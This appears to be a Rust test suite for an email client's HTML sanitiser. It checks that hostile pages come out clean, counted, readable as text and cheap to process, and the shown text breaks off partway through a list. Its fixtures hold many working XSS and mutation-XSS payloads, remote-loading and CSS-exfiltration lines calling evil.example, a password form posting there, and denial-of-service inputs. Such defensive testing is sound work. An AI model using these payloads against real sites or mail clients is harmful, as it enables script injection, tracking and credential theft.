//! HTML through the front door: whatever a stranger writes, what comes out loads nothing, does
//! nothing, and looks like nothing but text. Each result is read again as a browser reads it.

use std::cell::RefCell;
use std::time::{Duration, Instant};

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use proptest::prelude::*;
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
use serde_json::{Value, json};

use crate::harness::{Home, Host, amount, seal_one, shorten};
use crate::smime::{Ca, two};
use crate::trio::{ALICE, BOB, trios};

pub(crate) fn host() -> (Home, Host) {
    let home = Home::new();
    let mut host = home.start();
    host.hello();
    (home, host)
}

/// A message with this page alone.
pub(crate) fn message(html: &str) -> Vec<u8> {
    format!(
        "From: {ALICE}\r\nTo: {BOB}\r\nSubject: s\r\nContent-Type: text/html; charset=utf-8\r\n\
         Content-Transfer-Encoding: 8bit\r\n\r\n{html}"
    )
    .into_bytes()
}

/// What becomes of a page: the description in the result, and the clean page itself.
#[track_caller]
pub(crate) fn cleaned(host: &mut Host, html: &str) -> (Value, String) {
    let opened = host.open(&message(html)).unwrap();
    let page = opened["parts"][0]["html"].clone();
    assert!(page.is_object(), "{html}: {}", shorten(&opened));
    let clean = host.bytes(&page["clean"]);
    (page, String::from_utf8(clean).unwrap())
}

/// What may stand in a clean page: elements, and their attributes.
fn is_allowed(element: &str, attribute: &str) -> bool {
    match attribute {
        "dir" | "lang" => true,
        "data-link" => element == "a",
        "data-cid" | "alt" => element == "img",
        "colspan" | "rowspan" => matches!(element, "td" | "th"),
        "start" | "reversed" | "type" => element == "ol",
        "value" => element == "li",
        _ => false,
    }
}

const ELEMENTS: &str = " a abbr acronym address article aside b bdi big blockquote br caption \
    center cite code col colgroup dd del dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 \
    h6 header hr i img ins kbd li mark ol p pre s samp section small span strike strong sub sup \
    table tbody td th tr u ul ";

/// What is wrong with a clean page: everything in it that is not on the lists.
fn faults(clean: &str) -> Vec<String> {
    struct Sink(RefCell<Vec<String>>);
    impl TokenSink for Sink {
        type Handle = ();
        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
            let mut faults = self.0.borrow_mut();
            match token {
                Token::TagToken(tag) => {
                    let name = tag.name.to_string();
                    if !ELEMENTS.contains(&format!(" {name} ")) {
                        faults.push(format!("element {name}"));
                    }
                    for attribute in &tag.attrs {
                        let key = attribute.name.local.to_string();
                        let closing = tag.kind == TagKind::EndTag;
                        if closing || !is_allowed(&name, &key) {
                            faults.push(format!("attribute {name} {key}"));
                        }
                        let value = attribute.value.to_string();
                        if key == "data-link" && value.parse::<usize>().is_err() {
                            faults.push(format!("link {value}"));
                        }
                    }
                }
                Token::CharacterTokens(_) | Token::EOFToken => {}
                Token::ParseError(_) => {}
                other => faults.push(format!("{other:?}")),
            }
            TokenSinkResult::Continue
        }
    }
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(clean));
    let tokenizer = Tokenizer::new(Sink(RefCell::new(Vec::new())), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

/// Pages that reach out, act, hide, or are read in two ways.
const HOSTILE: &[&str] = &[
    "<img src=http://evil.example/a.png>",
    "<img srcset=\"http://evil.example/a.png 1x, //evil.example/b 2x\" src=x>",
    "<picture><source srcset=//evil.example/a><img src=//evil.example/b></picture>",
    "<img src=\"\\\\evil.example\\share\\a.png\">",
    "<img src=file:///etc/passwd><img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:x' onload=alert(1) style='position:fixed'>",
    "<body background=http://evil.example/a onload=alert(1) text=white>hello",
    "<table background=//evil.example/a><tr><td background=//evil.example/b>x</table>",
    "<video src=//evil.example/v poster=//evil.example/p autoplay></video>",
    "<audio src=//evil.example/a autoplay></audio><track src=//evil.example/t>",
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/o><embed src=//evil.example/e></object><applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/s><link rel=dns-prefetch href=//evil.example>",
    "<link rel=preload as=image href=//evil.example/p><link rel=icon href=//evil.example/i>",
    "<base href=http://evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0; url=http://evil.example'>",
    "<meta http-equiv=Set-Cookie content=x><meta http-equiv=Content-Security-Policy content=x>",
    "<style>@import url(//evil.example/s); body{background:url(//evil.example/b)}</style>",
    "<style>@import '//evil.example/s'</style><p style='background:url(//evil.example/b)'>x",
    "<p style='background:u\\72l(//evil.example/b)'>x<p style=\"background:image-set('//evil.example/i' 1x)\">",
    "<p style='width:expression(alert(1))'>x<p style='behavior:url(x.htc)'>x<p style='-moz-binding:url(x)'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Verified</div>",
    "<p style='content:url(//evil.example/c);cursor:url(//evil.example/d),auto'>x",
    "<form action=//evil.example><input name=p type=password><button>Go</button></form>",
    "<button formaction=//evil.example>x</button><isindex action=//evil.example>",
    "<input type=image src=//evil.example/i><keygen><select><option>x</select><textarea>x</textarea>",
    "<script>alert(1)</script><script src=//evil.example/s></script>",
    "<SCRIPT SRC=//evil.example/s></SCRIPT ><scr<script>ipt>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a><a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a><a href='java\nscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a><a href=vbscript:x>x</a>",
    "<a href=//evil.example/relative>x</a><a href=/x>x</a><a href=?x>x</a><a href=#x>x</a>",
    "<a href=blob:https://x/y>x</a><a href=about:blank>x</a><a href=view-source:x>x</a>",
    "<a href=http://ok.example ping=//evil.example target=_top download>x</a>",
    "<a href=http://ok.example onclick=alert(1) onmouseover=alert(1) id=x name=x class=x>x</a>",
    "<area href=//evil.example><map name=m><area href=http://evil.example></map>",
    "<svg onload=alert(1)><image href=//evil.example/i /><use xlink:href=//evil.example/u /></svg>",
    "<svg><script>alert(1)</script><style>@import '//evil.example'</style><a xlink:href=javascript:x>x</a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=javascript:alert(1)>x</mi><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"><noframes><img title=\"</noframes><img src=x onerror=1>\">",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><img src=x onerror=alert(1)><![endif]--><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=//evil.example?><!DOCTYPE x [<!ENTITY x SYSTEM '//evil.example'>]>&x;",
    "<img alt=\"<img src=x onerror=alert(1)>\" src=cid:x><img alt='\"><script>alert(1)</script>' src=cid:x>",
    "<p dir='\"><img src=x onerror=alert(1)>' lang='x onload=alert(1)'>x",
    "<img src=\"cid:a&quot; onerror=alert(1) x=&quot;\"><img src=cid:%22%3E%3Cscript%3E>",
    "<a href=\"http://ok.example/&quot; onclick=&quot;alert(1)\">x</a><a href='http://ok.example/<script>'>x</a>",
    "<p id=body name=documentElement><a id=defaultView><form id=cookie><img name=getElementById>",
    "<template><img src=x onerror=alert(1)></template><slot name=x><dialog open>x</dialog>",
    "<details open ontoggle=alert(1)><summary>x</summary>hidden</details><marquee onstart=alert(1)>x</marquee>",
    "<portal src=//evil.example><frameset><frame src=//evil.example></frameset><fencedframe src=x>",
    "<custom-element onclick=alert(1) is=x>x</custom-element><x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)/style=x>x<p\x0conclick=alert(1)>x<p\x00onclick=alert(1)>x",
    "<\x00script>alert(1)</script><img\x00 src=x onerror=alert(1)><a href=java\x00script:alert(1)>x</a>",
    "<img src=x:x onerror=alert(1) ><img src='x' 'onerror=alert(1)'><img src=`x`onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<b><i></b><img src=x onerror=alert(1)></i><table><b><tr><td></b><img src=x onerror=1></table>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "</body></html><script>alert(1)</script><head><base href=//evil.example><body onload=alert(1)>",
    "<bdo dir=rtl>elpmaxe.live</bdo><font color=white size=1>hidden</font><blink>x</blink>",
    "<p hidden>covert</p><span style=display:none>covert</span><div style='height:0;overflow:hidden'>covert</div>",
];

#[test]
fn nothing_reaches_out_or_acts() {
    let (_home, mut host) = host();
    for html in HOSTILE {
        let (page, clean) = cleaned(&mut host, html);
        let faults = faults(&clean);
        assert!(faults.is_empty(), "{html}\n{clean}\n{faults:?}");
        // No address stands in it, but as words.
        for link in page["links"].as_array().unwrap() {
            let url = link["url"].as_str().unwrap();
            assert!(url.starts_with("http://ok.example"), "{html}: {url}");
        }
        // Read and cleaned once more, no more is lost: it was read as it was meant.
        let (_, again) = cleaned(&mut host, &clean);
        let numbers = |text: &str| {
            let mut out = text.to_owned();
            while let Some(at) = out.find(" data-link=\"") {
                let end = out[at + 12..].find('"').unwrap() + at + 13;
                out.replace_range(at..end, "");
            }
            while let Some(at) = out.find("<img ") {
                let end = out[at..].find('>').unwrap() + at + 1;
                out.replace_range(at..end, "");
            }
            out
        };
        // An image is its words then.
        if !clean.contains("<img") {
            assert_eq!(numbers(&clean), again, "{html}");
        }
    }
}

#[test]
fn what_was_taken_out_is_counted() {
    let (_home, mut host) = host();
    for (html, remote, forms, scripts) in [
        ("<p>plain</p>", 0, 0, 0),
        (
            "<img src=http://a.example/x><img src=cid:y><img src=data:x>",
            1,
            0,
            0,
        ),
        (
            "<p style='background:url(http://a.example)'>x<link rel=x href=//y>",
            2,
            0,
            0,
        ),
        (
            "<meta http-equiv=refresh content=0><body background=//x>",
            2,
            0,
            0,
        ),
        ("<form action=//x><input><button>x</button></form>", 1, 3, 0),
        (
            "<script>x</script><p onclick=x>y<a href=javascript:x>z</a>",
            0,
            0,
            3,
        ),
    ] {
        let (page, _) = cleaned(&mut host, html);
        let expected = json!({"remote": remote, "forms": forms, "scripts": scripts});
        assert_eq!(page["removed"], expected, "{html}");
    }
}

#[test]
fn links_and_images_are_handed_out_as_data() {
    for mut trio in trios() {
        let html = "<p>see <a href=\"https://a.example/?x=1&amp;y=2\">this</a>, \
            <a href=\"mailto:b@a.example\">mail</a>, <a href=javascript:x>that</a>\
            <img src=\"cid:one@x\" alt=\"A picture\"><img src=\"cid:two%40x\">\
            <img src=cid:none@x alt=gone><img src=cid:doc@x><img src=http://a.example/p alt=far></p>";
        let draft = json!({
            "from": ALICE, "to": [BOB], "subject": "s", "html": {"text": html},
            "attachments": [
                {"name": "1.png", "type": "image/png", "body": {"base64": "iVBORw=="}, "contentId": "one@x"},
                {"name": "2.gif", "type": "image/gif", "body": {"base64": "R0lGOA=="}, "contentId": "two@x"},
                {"name": "d.svg", "type": "image/svg+xml", "body": {"text": "<svg/>"}, "contentId": "doc@x"},
            ],
        });
        let protect = json!({"sign": true, "encrypt": true, "protocol": trio.family});
        let message = seal_one(&mut trio.alice, draft, protect);
        let opened = trio.bob.open(&message).unwrap();
        let part = opened["parts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|part| part["type"] == "text/html");
        let page = &part.unwrap()["html"];
        let clean = String::from_utf8(trio.bob.bytes(&page["clean"].clone())).unwrap();
        assert_eq!(
            clean,
            "<p>see <a data-link=\"1\">this</a>, <a data-link=\"2\">mail</a>, <a>that</a>\
             <img data-cid=\"one@x\" alt=\"A picture\"><img data-cid=\"two@x\" alt=\"\">\
             <img data-cid=\"none@x\" alt=\"gone\"><img data-cid=\"doc@x\" alt=\"\">[far]</p>\r\n"
                .replace("\r\n", "")
        );
        assert_eq!(
            page["links"],
            json!([{"n": 1, "url": "https://a.example/?x=1&y=2"}, {"n": 2, "url": "mailto:b@a.example"}])
        );
        let id = |cid: &str| {
            let parts = opened["parts"].as_array().unwrap().iter();
            parts.clone().find(|part| part["contentId"] == cid).unwrap()["id"].clone()
        };
        assert_eq!(
            page["cids"],
            json!([{"contentId": "one@x", "part": id("one@x")}, {"contentId": "two@x", "part": id("two@x")}])
        );
        // What may be quoted is the same as text.
        let quote = String::from_utf8(trio.bob.bytes(&opened["quote"].clone())).unwrap();
        assert_eq!(
            quote,
            "see this <https://a.example/?x=1&y=2>, mail <b@a.example>, that[A picture][gone][far]\n"
        );
    }
}

/// An image under other layers than the page is somebody else's: it is never joined to it.
#[test]
fn images_of_another_layer_are_not_joined() {
    let mut trio = crate::trio::Trio::openpgp();
    let inner = "Content-Type: image/png\r\nContent-ID: <i@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw==\r\n";
    let params = json!({"payload": {"text": inner}, "form": "payload", "to": [BOB],
        "protect": {"encrypt": true, "protocol": "openpgp"}});
    let sealed = trio.alice.good("message/seal", params);
    let armor = String::from_utf8(trio.alice.bytes(&sealed["payload"].clone())).unwrap();
    let page = "Content-Type: text/html\r\n\r\n<img src=cid:i@x alt=x>\r\n";
    let mixed = crate::mime::mixed(&[page, &crate::mime::encrypted(&armor)]);
    let opened = trio
        .bob
        .open(format!("From: {ALICE}\r\nTo: {BOB}\r\n{mixed}").as_bytes())
        .unwrap();
    assert_eq!(
        opened["parts"][1]["contentId"],
        "i@x",
        "{}",
        shorten(&opened)
    );
    assert_eq!(opened["parts"][0]["html"]["cids"], json!([]));
}

/// CBC without a signature inside: text alone, with nothing in it that leads anywhere.
#[test]
fn what_nothing_vouches_for_is_text() {
    let Some(ca) = Ca::new() else { return };
    let (_a, mut alice, _b, mut bob) = two(&ca, "rsa:2048");
    let html = "<p>Hello <a href=\"http://evil.example/x\">there</a> <img src=cid:i@x alt=pic> &lt;b&gt;</p><p>two</p>";
    for (sign, warned) in [(false, true), (true, false)] {
        let draft = json!({"from": crate::smime::ALICE, "to": [crate::smime::BOB], "subject": "s",
            "html": {"text": html},
            "attachments": [{"name": "i.png", "type": "image/png", "body": {"base64": "iVBORw=="}, "contentId": "i@x"}]});
        let protect = json!({"encrypt": true, "sign": sign, "protocol": "smime", "cipher": "cbc"});
        let message = seal_one(&mut alice, draft, protect);
        let opened = bob.open(&message).unwrap();
        let warnings = opened["summary"]["warnings"].to_string();
        assert_eq!(warnings.contains("unauthenticated"), warned, "{warnings}");
        let parts = opened["parts"].as_array().unwrap();
        let part = parts
            .iter()
            .find(|part| part["type"] == "text/html")
            .unwrap();
        let clean = String::from_utf8(bob.bytes(&part["html"]["clean"].clone())).unwrap();
        assert!(faults(&clean).is_empty());
        let links = part["html"]["links"].as_array().unwrap().len()
            + part["html"]["cids"].as_array().unwrap().len();
        if warned {
            assert_eq!(part["size"], 0);
            assert_eq!(links, 0);
            assert_eq!(
                clean,
                "Hello there &lt;http://evil.example/x&gt; [pic] &lt;b&gt;<br><br>two<br>"
            );
        } else {
            assert_eq!(links, 2);
            assert!(part["size"].as_u64().unwrap() > 0);
        }
    }
}

/// Formatting that is opened and never closed, though it looks so to who counts tags.
fn opened(n: usize) -> String {
    (0..n).map(|n| format!("<b a={n}></x>")).collect()
}

/// Names of attributes, no two alike.
fn distinct(parting: &str, n: usize) -> String {
    (0x1000..0x1000 + n)
        .map(|n| format!("{n:x}{parting}"))
        .collect()
}

/// Pages that are built to keep their reader busy.
#[test]
fn a_page_keeps_nobody_busy() {
    let (_home, mut host) = host();
    let many = |text: &str, n: usize| text.repeat(n);
    let pages = [
        many("<div>", 100_000),
        many("<b><i><u>", 50_000),
        many("<table><tr><td>", 30_000),
        format!("{}{}", many("<p>", 90_000), many("</p>", 90_000)),
        many("<a href=x>", 100_000),
        format!("<p {}>", many("x=y ", 300_000)),
        format!("<img alt=\"{}\">", many("x", 1 << 20)),
        many("&amp;", 200_000),
        many("&CounterClockwiseContourIntegral;", 50_000),
        many("<!--", 200_000),
        many("<", 1 << 20),
        many("<font color=x>", 100_000),
        many("<li>", 90_000),
        many("<blockquote>", 200),
        format!("{}x", many("<ul><li>", 120)),
        many("x", 3 << 20),
        many("</p>", 90_000),
        many("<svg><math>", 50_000),
        format!("{}<svg>{}", opened(200), many("<g>x</g>", 100_000)),
        many("<div></x>", 45_000),
        many("<table></x><tr></x><td></x>", 15_000),
        format!("{}{}", opened(2_000), many("<p>x", 50_000)),
        format!("<frameset>{}{}", opened(30_000), many("<p>x", 30_000)),
        many("<select><option>", 50_000),
        format!("<p {}>", distinct(" ", 320_000)),
        format!("<p {}>", distinct("/", 320_000)),
        format!("<p {}>", distinct("=''", 250_000)),
        format!("<p {}>", distinct("=\">\"", 200_000)),
        format!("<p {}>", distinct(" ", 25_000)).repeat(10),
        format!("<!-- <a b=\" --><p {}>", distinct(" ", 300_000)),
        format!("<p style=\"{}\">x", many("display:(", 200_000)),
        format!("<p style=\"{}\">x", many("color:rgb(", 150_000)),
        format!("<p style=\"{}\">x", many("display:none;", 150_000)),
        format!("<style>{}</style><p hidden>x", many("@media{", 250_000)),
        format!("<style>{}</style><p hidden>x", many("a{b{", 250_000)),
        format!(
            "<style>.{}x{{display:block}}</style><p hidden class=\"{}\">x",
            distinct(",.", 150_000),
            distinct(" ", 100_000)
        ),
        // Each paragraph opens it once more, with all that it says.
        format!(
            "<p><b style={}>x{}",
            many("x", 50_000),
            many("<p>x", 90_000)
        ),
        format!(
            "<p><i lang={} dir=ltr>x{}",
            many("x", 1 << 20),
            many("<p>x", 90_000)
        ),
    ];
    for html in pages {
        let start = Instant::now();
        let opened = host.open(&message(&html)).unwrap();
        let took = start.elapsed();
        assert!(took < Duration::from_secs(20), "{took:?}: {}", &html[..20]);
        let page = opened["parts"][0]["html"].clone();
        if page.is_object() {
            let clean = String::from_utf8(host.bytes(&page["clean"])).unwrap();
            assert!(faults(&clean).is_empty());
        }
        assert!(
            host.peak_kib() < 600 << 10,
            "{} {} KiB",
            &html[..20],
            host.peak_kib()
        );
    }
}

/// What one page may cost, hundreds in one message may cost together; and whoever opened it may
/// think better of it.
#[test]
fn many_pages_keep_nobody_busy() {
    let (_home, mut host) = host();
    let part = |html: &str| format!("Content-Type: text/html\r\n\r\n{html}\r\n");
    for (page, count) in [
        (format!("<a {}>x", distinct(" ", 20_000)), 30),
        (format!("<p>seen{}", "<p>x<b>y".repeat(2_500)), 300),
        ("<i>x</i>".repeat(40_000), 20),
    ] {
        let part = part(&page);
        let entity = crate::mime::mixed(&vec![part.as_str(); count]);
        let whole = format!("From: {ALICE}\r\nTo: {BOB}\r\n{entity}");
        let start = Instant::now();
        let opened = host.open(whole.as_bytes()).unwrap();
        let took = start.elapsed();
        assert!(took < Duration::from_secs(30), "{took:?}: {}", &page[..20]);
        let parts = opened["parts"].as_array().unwrap();
        assert_eq!(parts.len(), count);
        assert!(parts[0]["html"].is_object(), "{}", &page[..20]);
    }
}

/// A page with its pictures inside is no such page.
#[test]
fn a_page_of_pictures_is_shown() {
    let (_home, mut host) = host();
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let picture = format!(
        "<img src=\"data:image/png;base64,{}\">",
        alphabet.repeat(7_000)
    );
    let html = format!("{}<p>seen</p>", picture.repeat(4));
    assert!(html.len() > 1_700_000);
    let opened = host.open(&message(&html)).unwrap();
    let page = &opened["parts"][0]["html"]["clean"];
    assert!(page.to_string().contains("seen"), "{}", shorten(&opened));
}

/// Random pages out of the pieces that hostile ones are made of.
#[test]
fn random_pages_stay_on_the_list() {
    let (_home, host) = host();
    let host = RefCell::new(host);
    let pieces: Vec<String> = HOSTILE
        .iter()
        .flat_map(|page| page.split_inclusive(['<', '>', '"', ' ', '=', '\'']))
        .map(str::to_owned)
        .collect();
    let page = proptest::collection::vec(proptest::sample::select(pieces), 1..60);
    let config = Config {
        cases: u32::try_from(amount(400, 20_000)).unwrap(),
        failure_persistence: None,
        ..Config::default()
    };
    let rng = TestRng::deterministic_rng(RngAlgorithm::ChaCha);
    let ran = TestRunner::new_with_rng(config, rng).run(&page, |pieces| {
        let html = pieces.concat();
        let (_, clean) = cleaned(&mut host.borrow_mut(), &html);
        let faults = faults(&clean);
        prop_assert!(faults.is_empty(), "{html}\n{clean}\n{faults:?}");
        Ok(())
    });
    ran.unwrap();
}

#[test]
fn pages_read_well_as_text() {
    let (_home, mut host) = host();
    for (html, text) in [
        ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree\n"),
        ("a  b\n c<b>d</b> e", "a b cd e\n"),
        (
            "<ul><li>one<li>two<ol><li>a<li>b</ol></ul>end",
            "- one\n- two\n  1. a\n  2. b\n\nend\n",
        ),
        (
            "<p>x<blockquote>q<blockquote>r</blockquote></blockquote>y",
            "x\n\n> q\n>\n>> r\n\ny\n",
        ),
        (
            "<table><tr><td>a<td>b<tr><td>c<td>d</table>",
            "a  b\nc  d\n",
        ),
        ("<pre>a\n  b\n</pre>c", "a\n  b\n\nc\n"),
        (
            "<a href=http://x.example/>http://x.example/</a> <a href=mailto:a@x.example>a@x.example</a>",
            "http://x.example/ a@x.example\n",
        ),
        (
            "<h1>T</h1><div>a</div><div>b</div><hr>c",
            "T\n\na\nb\n\n----\n\nc\n",
        ),
        (
            "<head><title>no</title><style>no</style></head><body>yes<!-- no --><script>no</script>",
            "yes\n",
        ),
        ("&lt;b&gt; &amp; &eacute;&nbsp;x", "<b> & é\u{a0}x\n"),
        (
            "<ol start=7><li>a<li>b</ol><ol start=x><li>c</ol>",
            "7. a\n8. b\n\n1. c\n",
        ),
    ] {
        let opened = host.open(&message(html)).unwrap();
        let quote = String::from_utf8(host.bytes(&opened["quote"].clone())).unwrap();
        assert_eq!(quote, text, "{html}");
    }
}

/// What hides itself comes to light nowhere: no style is kept, and nobody should quote what
/// they did not see.
#[test]
fn what_nobody_sees_is_neither_shown_nor_quoted() {
    let (_home, mut host) = host();
    let hidden = [
        "<p hidden>no</p>",
        "<div style='display:none'>no<p>no</p><br></div>",
        "<div style='DISPLAY : no\\6e e'>no</div>",
        "<div style='/*x*/color:red;display:/**/none !important'>no</div>",
        "<span style='opacity:0.0'>no</span>",
        "<span style='opacity:1;opacity:-5%;opacity:2px;opacity:x'>no</span>",
        "<p style='display:none ! important;display:block'>no</p>",
        "<p style='display:block;;x;y:{a;b};display:none'>no</p>",
        "<p style='background:url(x;y);display:none'>no</p>",
        "<p hidden style='color:red'>no</p>",
        // What a sheet says of others, for other screens, or less importantly.
        "<style>.x{display:block!important}</style><p style='display:none'>no</p>",
        "<style>p.x{display:block}.x{opacity:1!important}</style><p class=x style='display:none'>no</p>",
        "<style>@media (max-width:9em){.x{display:block!important}}</style><p style='display:none'>no</p>",
        "<style>@font-face{font-family:x}@page a{margin:1in}@list l:level1{x:y}</style><p style='display:none'>no</p>",
        "<style>@import url(https://x.example/y);.x{y:z}}</style><p style='opacity:0'>no</p>",
        "<!--[if mso]><style>p{display:block!important}</style><![endif]--><style>a{b:c}</style><p style='display:none'>no</p>",
        "<style>p{display:block!important}</style><p style='display:none!important'>no</p>",
        "<input type=hidden value=no>",
        "<noscript><img src='http://x.example/no'></noscript>",
        "<main style='display:none'>no<p>no</p></main><font style='opacity:0'>no</font>",
        "<img style='display:none' alt=no src=cid:x><br hidden>",
        "<template>no</template><!-- no --><title>no</title>",
    ];
    for html in hidden {
        let opened = host
            .open(&message(&format!(
                "<b>one</b>{html}<i style='color:red'>two</i>"
            )))
            .unwrap();
        let clean = host.bytes(&opened["parts"][0]["html"]["clean"]);
        let clean = String::from_utf8(clean).unwrap();
        assert_eq!(clean.trim(), "<b>one</b><i>two</i>", "{html}");
        let quote = String::from_utf8(host.bytes(&opened["quote"])).unwrap();
        assert!(
            quote.contains("two") && !quote.contains("no"),
            "{html}: {quote}"
        );
    }
}

/// Pages in which something beside the element takes back what its style hides, or may.
const TAKEN_BACK: [&str; 99] = [
    r#"<div style="font-size:0"><textarea>yes</textarea></div>"#,
    r#"<div style="color:transparent"><textarea>yes</textarea></div>"#,
    r#"<div style="font-size:0"><select><option>yes</select></div>"#,
    r#"<div style="color:transparent"><select><option>yes</select></div>"#,
    r#"<div style="font-size:0"><select size=2><optgroup label=x><option>yes</select></div>"#,
    r#"<div style="font-size:0"><svg><text font-size="20" y="20">yes</text></svg></div>"#,
    r#"<svg style="color:transparent"><text y=20>yes</text></svg>"#,
    r#"<div style="color:transparent"><svg><text y=20>yes</text></svg></div>"#,
    r#"<div style="visibility:hidden"><svg><text visibility="visible" y=20>yes</text></svg></div>"#,
    "<svg hidden><text y=20>yes</text></svg>",
    "<math hidden><mtext>yes</mtext></math>",
    r#"<math style="color:transparent"><mtext mathcolor="red">yes</mtext></math>"#,
    r#"<div style="font-size:0"><math><mtext mathsize="20px">yes</mtext></math></div>"#,
    r#"<style>@keyframes f{to{opacity:1}} .f{animation:f 1s forwards}</style><div class="f" style="opacity:0">yes</div>"#,
    r#"<style>@keyframes f{to{opacity:1}} div{animation:f 1s forwards}</style><div style="opacity:0">yes</div>"#,
    r#"<style>@keyframes f{to{visibility:visible}} div{animation:f 1s forwards}</style><div style="visibility:hidden">yes</div>"#,
    r#"<style>@keyframes f{to{max-height:100px}} div{animation:f 1s forwards}</style><div style="max-height:0;overflow:hidden">yes</div>"#,
    r#"<style>@keyframes f{to{font-size:14px}} div{animation:f 1s forwards}</style><div style="font-size:0">yes</div>"#,
    r#"<style>@media (max-width:99999px){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media screen, print{.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media not print{.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media only screen and (min-width:1px) and (max-width:9999px){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media not all and (max-width:600px){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media not (max-width:600px){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media (max-width:600px), (min-width:601px){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media (prefers-color-scheme:light){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@media (max-width:600px){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@supports (display:grid){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@layer x{.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@container (min-width:1px){.m{display:block!important}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@scope (.w){.m{display:block!important}}</style><div class=w><div class=m style="display:none">yes</div></div>"#,
    r#"<style>@media all{@media screen{.m{display:block!important}}}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>.w{ .m{display:block!important} }</style><div class=w><div class=m style="display:none">yes</div></div>"#,
    r#"<style>.w{ color:red; & .m{display:block!important} }</style><div class=w><div class=m style="display:none">yes</div></div>"#,
    r#"<style>.m{ @media all{display:block!important} }</style><div class=m style="display:none">yes</div>"#,
    r#"<style>.m{ &{display:block!important} }</style><div class=m style="display:none">yes</div>"#,
    r#"<style>.m{ @supports (display:block){display:block!important} }</style><div class=m style="display:none">yes</div>"#,
    r#"<svg><style><![CDATA[ .m{display:block!important} ]]></style></svg><div class=m style="display:none">yes</div>"#,
    r#"<svg><style>&#46;m{display:block!important}</style></svg><div class=m style="display:none">yes</div>"#,
    r#"<svg><style><a/>.m{display:block!important}</style></svg><div class=m style="display:none">yes</div>"#,
    r#"<style>@namespace f url(http://www.w3.org/1999/xhtml);f|div{display:block!important}</style><div style="display:none">yes</div>"#,
    r#"<style>[class="m"]{display:block!important}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>[style*="display:none"]{display:block!important}</style><div style="display:none">yes</div>"#,
    r#"<style>:is(.m){display:block!important}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>p.x + .m{display:block!important}</style><p class=x></p><div class=m style="display:none">yes</div>"#,
    r#"<style>.x>*{display:block!important}</style><div class=x><div style="display:none">yes</div></div>"#,
    r#"<style>
.a{}}
.m{display:block!important}</style><div class=m style="display:none">yes</div>"#,
    r#"<style><!-- .m{display:block!important} --></style><div class=m style="display:none">yes</div>"#,
    r#"<style>.m{display:block!important</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@import "x";.m{display:block ! important}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>@charset "utf-8";.m{display:revert!important}</style><div class=m style="display:none">yes</div>"#,
    r#"<style>.M{display:block!important}</style><div class=M style="display:none">yes</div>"#,
    r#"<style>.m\:x{display:block!important}</style><div class="m:x" style="display:none">yes</div>"#,
    r#"<style>#m{display:var(--x,block)!important}</style><div id=m style="display:none">yes</div>"#,
    r#"<style>.m{all:unset!important}</style><div class=m style="display:none">yes</div>"#,
